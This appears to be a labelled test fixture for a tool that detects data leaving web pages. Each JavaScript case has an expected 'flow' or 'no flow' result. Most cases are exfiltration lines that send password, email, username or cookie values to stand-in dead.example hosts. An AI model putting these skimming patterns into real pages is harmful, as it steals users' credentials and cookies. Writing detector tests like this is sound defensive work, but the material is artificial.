//# if-false
// no flow
if (false) {
  fetch('https://iffalse.dead.example/x', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# minified-not-one
// no flow
// why: !1 is false
!1 && navigator.sendBeacon('https://not1.dead.example/x', document.querySelector('input[type=password]').value);

//# minified-not-zero
// flow: email > not0.dead.example via beacon
!0 && navigator.sendBeacon('https://not0.dead.example/x', document.querySelector('input[type=email]').value);

//# after-return
// no flow
function onSubmit() {
  const v = document.querySelector('input[type=password]').value;
  return v.length > 7;
  fetch('https://ret.dead.example/x', { method: 'POST', body: v });
}
document.forms[0].onsubmit = onSubmit;

//# after-throw
// no flow
document.querySelector('#go').onclick = function () {
  var v = document.querySelector('input[type=search]').value;
  throw new Error('not ready');
  new Image().src = 'https://thr.dead.example/x?q=' + v;
};

//# constant-flag
// no flow
// no destination: flag.dead.example
const DEBUG_UPLOAD = false;
document.querySelector('textarea[name=message]').onchange = (e) => {
  if (DEBUG_UPLOAD) fetch('https://flag.dead.example/x', { method: 'POST', body: e.target.value });
};

//# flag-set-later
// flow: message > later.dead.example via fetch
// why: the flag starts as false, a key turns it on
let upload = false;
addEventListener('keydown', (e) => { if (e.key === 'F9') upload = true; });
document.querySelector('textarea[name=message]').onchange = (e) => {
  if (upload) fetch('https://later.dead.example/x', { method: 'POST', body: e.target.value });
};

//# build-env
// no flow
// why: the bundler has put the text in, the comparison is of two constants
if ("production" !== "production") {
  fetch('https://env.dead.example/x', { method: 'POST', body: document.cookie });
}

//# typeof-constant
// no flow
// why: document is always there in a page
if (typeof document === 'undefined') {
  fetch('https://ssr.dead.example/x');
} else {
  document.querySelector('#echo').textContent = document.querySelector('input[type=email]').value;
}

//# handler-assigned
// flow: password > hand.dead.example via fetch
// why: no call stands in the code, other scripts of the page can make it
window.onPasswordDone = function () {
  fetch('https://hand.dead.example/x', { method: 'POST', body: document.querySelector('input[type=password]').value });
};

//# exported-on-window
// flow: username > glob.dead.example via beacon
window.Kit = { identify() { navigator.sendBeacon('https://glob.dead.example/x', document.querySelector('input[name=username]').value); } };

//# switch-constant
// no flow
// destination: https://b.dead.example/x
// no destination: a.dead.example
const MODE = 'b';
switch (MODE) {
  case 'a':
    fetch('https://a.dead.example/x', { method: 'POST', body: document.querySelector('input[type=email]').value });
    break;
  case 'b':
    fetch('https://b.dead.example/x');
    break;
}

//# switch-falls-through
// flow: email > fall.dead.example via fetch
// why: without break the next case runs too
const kind = 'a';
switch (kind) {
  case 'a':
    console.log('a');
  case 'b':
    fetch('https://fall.dead.example/x', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# loop-of-nothing
// no flow
// why: the list of addresses is empty and never filled
const mirrors = [];
for (const m of mirrors) fetch('https://' + m + '/x', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# while-false
// no flow
while (false) { new Image().src = 'https://while.dead.example/?' + document.cookie; }

//# do-while-false
// flow: identifier > dowhile.dead.example via image
// why: the body runs once
do { new Image().src = 'https://dowhile.dead.example/?' + encodeURIComponent(document.cookie); } while (0);

//# in-comment-and-text
// no flow
// no destination: text.dead.example
// fetch('https://text.dead.example/x?' + document.cookie)
const example = "fetch('https://text.dead.example/x?' + document.cookie)";
document.querySelector('code').textContent = example;

//# void-zero-callback
// no flow
// why: the callback is undefined and ?. skips the call
const opts = { onDone: void 0 };
opts.onDone?.(fetch('https://optcall.dead.example/x', { method: 'POST', body: document.querySelector('input[type=password]').value }));
